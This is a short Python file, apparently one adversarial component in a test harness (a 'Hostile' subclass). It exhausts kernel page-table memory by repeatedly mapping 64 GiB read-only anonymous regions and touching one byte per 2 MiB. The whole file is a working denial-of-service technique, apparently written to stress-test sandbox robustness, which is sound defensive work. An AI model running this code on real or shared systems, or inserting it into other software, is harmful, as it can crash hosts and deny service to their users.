"""Uses up kernel memory: page tables, by reading one byte in 2 MiB of endless read-only mappings."""

import ctypes
import mmap
import time

from when import Hostile

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long)
PIECE, STEP = 64 << 30, 2 << 20
NO_RESERVE = 0x4000


class PageTables(Hostile):
    def attack(self, view, moves):
        end = time.monotonic() + 0.4
        while time.monotonic() < end:
            place = LIBC.mmap(None, PIECE, 1, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NO_RESERVE, -1, 0)
            if place in (None, ctypes.c_void_p(-1).value):
                raise MemoryError("no more mappings")
            for at in range(0, PIECE, STEP):
                ctypes.string_at(place + at, 1)
                if time.monotonic() > end:
                    return
